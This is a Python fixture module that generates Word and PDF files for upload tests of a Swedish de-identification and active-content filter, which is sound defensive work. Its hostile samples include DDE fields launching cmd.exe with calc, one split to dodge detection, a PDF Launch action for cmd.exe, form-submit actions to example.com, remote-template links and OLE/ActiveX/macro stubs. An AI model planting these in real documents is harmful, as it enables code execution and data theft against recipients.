"""Word and PDF files built in code for the upload tests: clean ones, and one hostile file for
each way personal data or active content can hide in them. Nothing here is checked in as a
binary; every file is made when a test asks for it."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from xml.sax.saxutils import escape, quoteattr

import docx
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

#: Synthetic data only: Skatteverket's test person, a made-up mobile number and address.
PNR = "19121212-1212"
PHONE = "070-123 45 67"
EMAIL = "anna.andersson@exempel.se"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMESPACES = {
    "w": W,
    "r": REL,
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
    "wps": "http://schemas.microsoft.com/office/word/2010/wordprocessingShape",
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
}
XMLNS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMESPACES.items())
CT = "application/vnd.openxmlformats-officedocument."

Parts = dict[str, bytes]


# DOCX


def word_document(build: Callable[[docx.document.Document], None] | None = None) -> bytes:
    """A DOCX from python-docx with a paragraph and a table, after ``build(document)``."""
    document = docx.Document()
    document.add_paragraph("Hej från Åsa")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "Cell A"
    table.cell(0, 1).text = "Cell B"
    if build:
        build(document)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repack(source: bytes, add: Parts | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """The members of a zip, minus ``drop``, plus ``add``, in a new zip."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for member in old.namelist():
            if member not in drop and member not in (add or {}):
                new.writestr(member, old.read(member))
        for member, data in (add or {}).items():
            new.writestr(member, data)
    return out.getvalue()


def edit_docx(change: Callable[[Parts], None], source: bytes | None = None) -> bytes:
    """A python-docx document (or ``source``) with its parts changed by ``change(parts)``."""
    with zipfile.ZipFile(io.BytesIO(source or word_document())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def relate(
    parts: Parts,
    kind: str,
    target: str,
    *,
    source: str = "word/document.xml",
    external: bool = False,
    base: str = REL,
) -> str:
    """Add a relationship of ``kind`` from ``source`` to ``target``; return its id."""
    folder, _, name = source.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels" if folder else f"_rels/{name}.rels"
    xml = parts.get(rels, b"").decode() or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        "</Relationships>"
    )
    rid = f"rIdTest{xml.count('<Relationship ')}"
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rid}" Type="{base}/{kind}" Target={quoteattr(target)}{mode}/>'
    parts[rels] = xml.replace("</Relationships>", entry + "</Relationships>").encode()
    return rid


def declare(parts: Parts, part: str, content_type: str) -> None:
    """Add an Override for ``part`` to [Content_Types].xml."""
    entry = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    types = parts["[Content_Types].xml"].decode().replace("</Types>", entry + "</Types>")
    parts["[Content_Types].xml"] = types.encode()


def add_part(parts: Parts, part: str, content_type: str, xml: str, kind: str) -> str:
    """Add an XML part related from the main document; return the relationship's id."""
    parts[part] = xml.encode()
    declare(parts, part, content_type)
    return relate(parts, kind, part.removeprefix("word/"))


def set_body(parts: Parts, body: str) -> None:
    """Replace word/document.xml with one whose body is ``body`` (namespaces declared)."""
    parts["word/document.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document {XMLNS} mc:Ignorable="wps"><w:body>{body}</w:body></w:document>'
    ).encode()


def para(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def text_box(choice: str, fallback: str) -> str:
    """A paragraph holding a text box, DrawingML in the choice and VML in the fallback."""
    return (
        '<w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing>'
        '<wp:anchor distT="0" distB="0" distL="0" distR="0" simplePos="0" relativeHeight="1" '
        'behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1">'
        '<wp:simplePos x="0" y="0"/><wp:extent cx="914400" cy="914400"/>'
        '<wp:docPr id="1" name="Textruta 1"/>'
        f'<a:graphic xmlns:a="{NAMESPACES["a"]}"><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/'
        'wordprocessingShape"><wps:wsp><wps:txbx><w:txbxContent>'
        f"{para(choice)}</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData>"
        "</a:graphic></wp:anchor></w:drawing></mc:Choice><mc:Fallback><w:pict>"
        '<v:shape id="Textruta 1" style="width:72pt;height:72pt"><v:textbox><w:txbxContent>'
        f"{para(fallback)}</w:txbxContent></v:textbox></v:shape></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r></w:p>"
    )


def notes(kind: str, text: str) -> str:
    """word/footnotes.xml or word/endnotes.xml with the two separators and one note."""
    tag = kind.removesuffix("s")
    separators = "".join(
        f'<w:{tag} w:type="{t}" w:id="{i}"><w:p><w:r><w:{s}/></w:r></w:p></w:{tag}>'
        for i, (t, s) in enumerate(
            [("separator", "separator"), ("continuationSeparator", "continuationSeparator")], -1
        )
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{kind} {XMLNS}>'
        f'{separators}<w:{tag} w:id="1">{para(text)}</w:{tag}></w:{kind}>'
    )


def with_notes(kind: str, text: str) -> bytes:
    def change(parts: Parts) -> None:
        tag = kind.removesuffix("s")
        add_part(
            parts, f"word/{kind}.xml", f"{CT}wordprocessingml.{kind}+xml", notes(kind, text), kind
        )
        set_body(
            parts, f'<w:p><w:r><w:t>Text</w:t></w:r><w:r><w:{tag}Reference w:id="1"/></w:r></w:p>'
        )

    return edit_docx(change)


def with_custom_properties(name: str, value: str) -> bytes:
    def change(parts: Parts) -> None:
        parts["docProps/custom.xml"] = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/'
            '2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" '
            f'pid="2" name={quoteattr(name)}><vt:lpwstr>{escape(value)}</vt:lpwstr></property>'
            "</Properties>"
        ).encode()
        declare(parts, "docProps/custom.xml", f"{CT}custom-properties+xml")
        relate(parts, "custom-properties", "docProps/custom.xml", source="/")

    return edit_docx(change)


def with_app_property(tag: str, value: str) -> bytes:
    def change(parts: Parts) -> None:
        app = parts["docProps/app.xml"].decode()
        parts["docProps/app.xml"] = app.replace(f"<{tag}/>", f"<{tag}>{escape(value)}</{tag}>")
        assert parts["docProps/app.xml"] != app.encode()

    return edit_docx(change)


def with_core_property(attribute: str, value: str) -> bytes:
    return word_document(lambda d: setattr(d.core_properties, attribute, value))


def with_body(body: str) -> Callable[[], bytes]:
    return lambda: edit_docx(lambda parts: set_body(parts, body))


def with_template(target: str, source: bytes | None = None) -> bytes:
    """A document whose settings attach the template at ``target``, as Word writes it."""

    def change(parts: Parts) -> None:
        rid = relate(parts, "attachedTemplate", target, source="word/settings.xml", external=True)
        settings = parts["word/settings.xml"].decode()
        parts["word/settings.xml"] = re.sub(
            r"(<w:settings[^>]*>)", rf'\1<w:attachedTemplate r:id="{rid}"/>', settings, count=1
        ).encode()

    return edit_docx(change, source)


def with_relationship(kind: str, target: str, **options) -> Callable[[], bytes]:
    """A document with one more relationship (``options``: those of :func:`relate`)."""
    return lambda: edit_docx(lambda parts: relate(parts, kind, target, **options))


def with_member(member: str, data: bytes = b"\xd0\xcf\x11\xe0") -> Callable[[], bytes]:
    return lambda: edit_docx(lambda parts: parts.__setitem__(member, data))


def with_hyperlink(target: str) -> bytes:
    def change(parts: Parts) -> None:
        rid = relate(parts, "hyperlink", target, external=True)
        set_body(
            parts,
            f'<w:p><w:hyperlink r:id="{rid}"><w:r><w:t>Skriv till oss</w:t></w:r>'
            "</w:hyperlink></w:p>",
        )

    return edit_docx(change)


def with_comment(text: str, author: str = "Granskare") -> bytes:
    def build(document) -> None:
        paragraph = document.add_paragraph("Kommenterad mening.")
        document.add_comment(paragraph.runs, text=text, author=author, initials="GR")

    return word_document(build)


def with_header(text: str) -> bytes:
    return word_document(lambda d: setattr(d.sections[0].header.paragraphs[0], "text", text))


def with_footer(text: str) -> bytes:
    return word_document(lambda d: setattr(d.sections[0].footer.paragraphs[0], "text", text))


def clean_word_document() -> bytes:
    """Header, footer, comment, text box, footnote, properties, a link and a template on the
    user's own drive, none of them with personal data."""

    def build(document) -> None:
        document.sections[0].header.paragraphs[0].text = "Socialtjänsten, avdelning Syd"
        document.sections[0].footer.paragraphs[0].text = "Sida 1 av 1, 2026-10-01"
        paragraph = document.add_paragraph("Remissen besvarades inte.")
        document.add_comment(paragraph.runs, text="Kontrollera datumet.", author="Granskare")
        document.core_properties.author = "Handläggare"
        document.core_properties.title = "Avvikelse i BUS-samverkan"
        document.core_properties.keywords = "BUS, avvikelse"

    def change(parts: Parts) -> None:
        add_part(
            parts,
            "word/footnotes.xml",
            f"{CT}wordprocessingml.footnotes+xml",
            notes("footnotes", "Se rutinen för BUS."),
            "footnotes",
        )
        link = relate(parts, "hyperlink", "https://www.example.se/bus", external=True)
        extra = text_box("Viktigt", "Viktigt") + (
            f'<w:p><w:hyperlink r:id="{link}"><w:r><w:t>Rutinen</w:t></w:r></w:hyperlink></w:p>'
        )
        body = parts["word/document.xml"].decode().replace("<w:body>", "<w:body>" + extra, 1)
        parts["word/document.xml"] = body.encode()

    with_parts = edit_docx(change, word_document(build))
    return with_template("file:///C:/Users/handlaggare/Mallar/Brev%20BUS.dotx", with_parts)


# PDF


def blank_pdf(change: Callable[[PdfWriter], None] | None = None) -> bytes:
    """A one-page PDF from pypdf, after ``change(writer)`` when given."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], None]) -> Callable[[], bytes]:
    return lambda: blank_pdf(change)


def name(value: str) -> NameObject:
    return NameObject(value)


def text(value: str) -> TextStringObject:
    return TextStringObject(value)


def dictionary(**entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def action(kind: str, **entries: object) -> DictionaryObject:
    return dictionary(S=name(f"/{kind}"), **entries)


def annotation(subtype: str, **entries: object) -> DictionaryObject:
    rect = ArrayObject([FloatObject(v) for v in (0, 0, 50, 50)])
    return dictionary(Type=name("/Annot"), Subtype=name(subtype), Rect=rect, **entries)


def add_annotations(writer: PdfWriter, *annotations: DictionaryObject) -> None:
    refs = [writer._add_object(a) for a in annotations]
    writer.pages[0][NameObject("/Annots")] = ArrayObject(refs)


def add_field(writer: PdfWriter, field_type: str = "/Tx", **entries: object) -> DictionaryObject:
    """A terminal form field merged with its widget, on the page and in /AcroForm."""
    field = annotation("/Widget", FT=name(field_type), **{"T": text("falt1"), **entries})
    field[NameObject("/P")] = writer.pages[0].indirect_reference
    ref = writer._add_object(field)
    writer.pages[0][NameObject("/Annots")] = ArrayObject([ref])
    writer.root_object[NameObject("/AcroForm")] = dictionary(Fields=ArrayObject([ref]))
    return field


def set_open_action(writer: PdfWriter, value: DictionaryObject) -> None:
    writer.root_object[NameObject("/OpenAction")] = value


def add_xfa(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    xfa = ArrayObject([text("xdp:xdp"), writer._add_object(stream)])
    writer.root_object[NameObject("/AcroForm")] = dictionary(Fields=ArrayObject(), XFA=xfa)


def set_xmp(writer: PdfWriter, xml: str) -> None:
    stream = DecodedStreamObject()
    stream[NameObject("/Type")] = name("/Metadata")
    stream[NameObject("/Subtype")] = name("/XML")
    stream.set_data(xml.encode())
    writer.root_object[NameObject("/Metadata")] = writer._add_object(stream)


def xmp(description: str, extra: str = "") -> str:
    """An XMP packet with one rdf:Description holding ``description``."""
    return (
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:pdf="http://ns.adobe.com/pdf/1.3/" xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/" '
        f"{extra}>{description}</rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    )


def add_bookmark(writer: PdfWriter, title: str, **entries: object) -> None:
    item = writer.add_outline_item(title=title, page_number=0)
    item.get_object().update({NameObject(f"/{k}"): v for k, v in entries.items()})


def clean_pdf() -> bytes:
    """Annotations, a form field, a link, a bookmark, metadata and XMP, none with personal
    data (the XMP's identifiers and history are full of digits)."""

    def change(writer: PdfWriter) -> None:
        writer.add_metadata({"/Title": "Avvikelse i BUS-samverkan", "/Author": "Handläggare"})
        set_xmp(
            writer,
            xmp(
                '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Avvikelse</rdf:li></rdf:Alt>'
                "</dc:title><xmpMM:DocumentID>uuid:19121212-1212-4a5b-8c9d-070123456700"
                "</xmpMM:DocumentID>",
                'pdf:Producer="Ordbehandlaren 16.0"',
            ),
        )
        note = annotation("/Text", Contents=text("Kontrollera datumet."), T=text("Granskare"))
        link = annotation("/Link", A=action("URI", URI=text("https://www.example.se/bus")))
        widget = annotation(
            "/Widget", FT=name("/Tx"), T=text("Beslut"), V=text("Ja"), TU=text("Fattades beslut?")
        )
        add_annotations(writer, note, link, widget)
        add_bookmark(writer, "Bakgrund")

    return blank_pdf(change)


# The hostile files, each with the end of the Swedish message it must get.


@dataclass(frozen=True)
class Hostile:
    id: str
    filename: str
    build: Callable[[], bytes]
    says: str


NOT_DEIDENTIFIED = (
    "är inte avidentifierad ({where}). Texten innehåller {what}. "
    "Ta bort uppgifter som kan identifiera en person."
)
A_PNR = "ett personnummer eller samordningsnummer"
A_PHONE = "ett telefonnummer"
AN_EMAIL = "en e-postadress"
MACROS = (
    "innehåller makron och kan inte tas emot. Spara den som ett vanligt Word-dokument "
    "(.docx) utan makron."
)
OLE = (
    "innehåller inbäddade objekt eller filer (till exempel OLE-objekt eller diagram med "
    "Excel-data) och kan inte tas emot. Klistra in dem som bilder i stället."
)
ACTIVEX = "innehåller ActiveX-kontroller och kan inte tas emot."
ALTCHUNK = (
    "innehåller inbäddat innehåll i ett annat format (altChunk) och kan inte tas emot. "
    "Spara den som ett vanligt Word-dokument (.docx)."
)
REMOTE = (
    "hämtar en mall eller annat innehåll från en annan plats när den öppnas och kan inte "
    "tas emot. Spara den som ett vanligt Word-dokument utan kopplad mall."
)
DDE = "innehåller fältkoder som kan starta program (DDE) och kan inte tas emot."
ACTIONS = "innehåller JavaScript eller andra automatiska åtgärder och kan inte tas emot."
XFA = (
    "är ett XFA-formulär och kan inte tas emot. Skriv ut den till en vanlig PDF-fil och "
    "ladda upp den i stället."
)


def personal(where: str, what: str) -> str:
    return NOT_DEIDENTIFIED.format(where=where, what=what)


OLE_BODY = (
    '<w:p><w:r><w:object><v:shape id="ole1" style="width:10pt;height:10pt"/>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1" DrawAspect="Icon" '
    'ObjectID="_1"/></w:object></w:r></w:p>'
)
DDE_SIMPLE = (
    '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot; ">'
    "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
)
DDE_SPLIT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
    '<w:r><w:instrText xml:space="preserve">E "c:\\\\windows\\\\cmd.exe" "/k calc"</w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
DELETION = (
    '<w:p><w:r><w:t xml:space="preserve">Barnet </w:t></w:r>'
    f'<w:del w:id="1" w:author="Handläggare" w:date="2026-10-01T10:00:00Z"><w:r><w:delText>'
    f"{PNR}</w:delText></w:r></w:del></w:p>"
)

HOSTILE_DOCX = [
    Hostile(
        "body", "text.docx", with_body(para(f"Barnet {PNR}")), personal("dokumentets text", A_PNR)
    ),
    Hostile(
        "header",
        "sidhuvud.docx",
        lambda: with_header(f"Handläggare {PHONE}"),
        personal("sidhuvud eller sidfot", A_PHONE),
    ),
    Hostile(
        "footer",
        "sidfot.docx",
        lambda: with_footer(f"Gäller {PNR}"),
        personal("sidhuvud eller sidfot", A_PNR),
    ),
    Hostile(
        "footnote",
        "fotnot.docx",
        lambda: with_notes("footnotes", f"Se {PNR}"),
        personal("fotnoter eller slutnoter", A_PNR),
    ),
    Hostile(
        "endnote",
        "slutnot.docx",
        lambda: with_notes("endnotes", f"Ring {PHONE}"),
        personal("fotnoter eller slutnoter", A_PHONE),
    ),
    Hostile(
        "comment",
        "kommentar.docx",
        lambda: with_comment(f"Mamman nås på {PHONE}"),
        personal("kommentarer", A_PHONE),
    ),
    Hostile(
        "comment-author",
        "kommentar.docx",
        lambda: with_comment("Ok.", author=EMAIL),
        personal("författare till kommentarer eller ändringar", AN_EMAIL),
    ),
    Hostile(
        "tracked-deletion",
        "andring.docx",
        with_body(DELETION),
        personal("spårade ändringar", A_PNR),
    ),
    Hostile(
        "text-box-drawingml",
        "ruta.docx",
        with_body(text_box(f"Barn {PNR}", "Barn")),
        personal("textrutor", A_PNR),
    ),
    Hostile(
        "text-box-vml-fallback",
        "ruta.docx",
        with_body(text_box("Barn", f"Barn {PNR}")),
        personal("textrutor", A_PNR),
    ),
    Hostile(
        "core-author",
        "egenskap.docx",
        lambda: with_core_property("author", EMAIL),
        personal("dokumentets egenskaper", AN_EMAIL),
    ),
    Hostile(
        "core-title",
        "egenskap.docx",
        lambda: with_core_property("title", f"Barn {PNR}"),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "core-subject",
        "egenskap.docx",
        lambda: with_core_property("subject", PNR),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "core-keywords",
        "egenskap.docx",
        lambda: with_core_property("keywords", PNR),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "core-description",
        "egenskap.docx",
        lambda: with_core_property("comments", PNR),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "core-last-modified-by",
        "egenskap.docx",
        lambda: with_core_property("last_modified_by", EMAIL),
        personal("dokumentets egenskaper", AN_EMAIL),
    ),
    Hostile(
        "app-company",
        "egenskap.docx",
        lambda: with_app_property("Company", PHONE),
        personal("dokumentets egenskaper", A_PHONE),
    ),
    Hostile(
        "app-manager",
        "egenskap.docx",
        lambda: with_app_property("Manager", EMAIL),
        personal("dokumentets egenskaper", AN_EMAIL),
    ),
    Hostile(
        "custom-property",
        "egenskap.docx",
        lambda: with_custom_properties("Barnets personnummer", PNR),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "mailto-link",
        "lank.docx",
        lambda: with_hyperlink(f"mailto:{EMAIL}"),
        personal("länkar", AN_EMAIL),
    ),
    Hostile(
        "remote-template-https",
        "mall.docx",
        lambda: with_template("https://mallar.example.com/brev.dotm"),
        REMOTE,
    ),
    Hostile(
        "remote-template-unc",
        "mall.docx",
        lambda: with_template("\\\\filserver\\mallar\\brev.dotx"),
        REMOTE,
    ),
    Hostile(
        "remote-template-file-host",
        "mall.docx",
        lambda: with_template("file://filserver/mallar/brev.dotx"),
        REMOTE,
    ),
    Hostile(
        "external-subdocument",
        "del.docx",
        with_relationship("subDocument", "\\\\filserver\\del.docx", external=True),
        REMOTE,
    ),
    Hostile(
        "external-frame",
        "ram.docx",
        with_relationship(
            "frame", "https://example.com/ram.html", external=True, source="word/webSettings.xml"
        ),
        REMOTE,
    ),
    Hostile(
        "external-ole-object",
        "ole.docx",
        with_relationship("oleObject", "file://filserver/data.xlsx", external=True),
        OLE,
    ),
    Hostile("ole-object-element", "ole.docx", with_body(OLE_BODY), OLE),
    Hostile("ole-embedding-part", "ole.docx", with_member("word/embeddings/oleObject1.bin"), OLE),
    Hostile(
        "ole-relationship", "ole.docx", with_relationship("oleObject", "media/oleObject1.bin"), OLE
    ),
    Hostile(
        "embedded-package",
        "paket.docx",
        with_relationship("package", "media/Microsoft_Excel_Worksheet.xlsx"),
        OLE,
    ),
    Hostile(
        "activex-part", "activex.docx", with_member("word/activeX/activeX1.xml", b"<a/>"), ACTIVEX
    ),
    Hostile(
        "activex-relationship",
        "activex.docx",
        with_relationship("control", "media/activeX1.xml"),
        ACTIVEX,
    ),
    Hostile(
        "activex-element",
        "activex.docx",
        with_body('<w:p><w:r><w:control r:id="rId99" w:name="Knapp"/></w:r></w:p>'),
        ACTIVEX,
    ),
    Hostile("altchunk-element", "chunk.docx", with_body('<w:altChunk r:id="rId99"/>'), ALTCHUNK),
    Hostile(
        "altchunk-relationship", "chunk.docx", with_relationship("aFChunk", "afchunk.mht"), ALTCHUNK
    ),
    Hostile(
        "macro-relationship",
        "makro.docx",
        with_relationship("vbaProject", "vbaProject.bin"),
        MACROS,
    ),
    Hostile(
        "macro-customizations",
        "makro.docx",
        with_relationship(
            "keyMapCustomizations",
            "customizations.xml",
            base="http://schemas.microsoft.com/office/2006/relationships",
        ),
        MACROS,
    ),
    Hostile("dde-field", "dde.docx", with_body(DDE_SIMPLE), DDE),
    Hostile("dde-split-field", "dde.docx", with_body(DDE_SPLIT), DDE),
]


def _named_chain(writer: PdfWriter) -> None:
    page = writer.pages[0].indirect_reference
    destination = ArrayObject([page, name("/Fit")])
    submit = action("SubmitForm", F=text("https://example.com/samla"))
    chain = action("GoTo", D=destination, Next=action("Named", N=name("/NextPage"), Next=submit))
    set_open_action(writer, chain)


def _outline_action(writer: PdfWriter) -> None:
    add_bookmark(
        writer,
        "Bilaga",
        A=action("GoToR", F=text("annan.pdf"), D=ArrayObject([NumberObject(0), name("/Fit")])),
    )


HOSTILE_PDF = [
    Hostile("xfa", "xfa.pdf", pdf(add_xfa), XFA),
    Hostile(
        "launch-document-aa",
        "aa.pdf",
        pdf(
            lambda w: w.root_object.__setitem__(
                NameObject("/AA"), dictionary(WC=action("Launch", F=text("cmd.exe")))
            )
        ),
        ACTIONS,
    ),
    Hostile(
        "submit-form-widget",
        "falt.pdf",
        pdf(
            lambda w: add_field(w, "/Btn", A=action("SubmitForm", F=text("https://example.com/in")))
        ),
        ACTIONS,
    ),
    Hostile(
        "submit-form-field-aa",
        "falt.pdf",
        pdf(
            lambda w: add_field(
                w, AA=dictionary(K=action("SubmitForm", F=text("https://ex.com/in")))
            )
        ),
        ACTIONS,
    ),
    Hostile(
        "import-data-open-action",
        "import.pdf",
        pdf(lambda w: set_open_action(w, action("ImportData", F=text("data.fdf")))),
        ACTIONS,
    ),
    Hostile(
        "gotor-link",
        "lank.pdf",
        pdf(
            lambda w: add_annotations(
                w,
                annotation(
                    "/Link",
                    A=action(
                        "GoToR",
                        F=text("\\\\filserver\\x.pdf"),
                        D=ArrayObject([NumberObject(0), name("/Fit")]),
                    ),
                ),
            )
        ),
        ACTIONS,
    ),
    Hostile(
        "gotoe-page-aa",
        "sida.pdf",
        pdf(
            lambda w: w.pages[0].__setitem__(
                NameObject("/AA"),
                dictionary(O=action("GoToE", T=dictionary(R=name("/C"), N=text("bilaga.pdf")))),
            )
        ),
        ACTIONS,
    ),
    Hostile("named-action-next-chain", "kedja.pdf", pdf(_named_chain), ACTIONS),
    Hostile("outline-gotor", "bokmarke.pdf", pdf(_outline_action), ACTIONS),
    Hostile(
        "info-author",
        "info.pdf",
        pdf(lambda w: w.add_metadata({"/Author": f"Anna {PNR}"})),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "info-custom-key",
        "info.pdf",
        pdf(lambda w: w.add_metadata({"/Handlaggare": EMAIL})),
        personal("dokumentets egenskaper", AN_EMAIL),
    ),
    Hostile(
        "xmp-element",
        "xmp.pdf",
        pdf(
            lambda w: set_xmp(
                w, xmp(f"<dc:creator><rdf:Seq><rdf:li>{EMAIL}</rdf:li></rdf:Seq></dc:creator>")
            )
        ),
        personal("dokumentets egenskaper", AN_EMAIL),
    ),
    Hostile(
        "xmp-attribute",
        "xmp.pdf",
        pdf(lambda w: set_xmp(w, xmp("", f'pdf:Keywords="Barn {PNR}"'))),
        personal("dokumentets egenskaper", A_PNR),
    ),
    Hostile(
        "annotation-contents",
        "anteckning.pdf",
        pdf(lambda w: add_annotations(w, annotation("/Text", Contents=text(f"Ring {PHONE}")))),
        personal("kommentarer och anteckningar", A_PHONE),
    ),
    Hostile(
        "annotation-author",
        "anteckning.pdf",
        pdf(lambda w: add_annotations(w, annotation("/Text", T=text(EMAIL)))),
        personal("kommentarer och anteckningar", AN_EMAIL),
    ),
    Hostile(
        "annotation-rich-text",
        "anteckning.pdf",
        pdf(
            lambda w: add_annotations(
                w,
                annotation(
                    "/FreeText",
                    RC=text(
                        f'<body xmlns="http://www.w3.org/1999/xhtml"><p>Barn '
                        f"<span>{PNR[:8]}</span>{PNR[8:]}</p></body>"
                    ),
                ),
            )
        ),
        personal("kommentarer och anteckningar", A_PNR),
    ),
    Hostile(
        "field-value",
        "falt.pdf",
        pdf(lambda w: add_field(w, V=text(PNR))),
        personal("formulärfält", A_PNR),
    ),
    Hostile(
        "field-tooltip",
        "falt.pdf",
        pdf(lambda w: add_field(w, TU=text(f"Ring {PHONE}"))),
        personal("formulärfält", A_PHONE),
    ),
    Hostile(
        "field-name",
        "falt.pdf",
        pdf(lambda w: add_field(w, T=text(EMAIL))),
        personal("formulärfält", AN_EMAIL),
    ),
    Hostile(
        "bookmark-title",
        "bokmarke.pdf",
        pdf(lambda w: add_bookmark(w, f"Barn {PNR}")),
        personal("bokmärken", A_PNR),
    ),
]

HOSTILE = HOSTILE_DOCX + HOSTILE_PDF
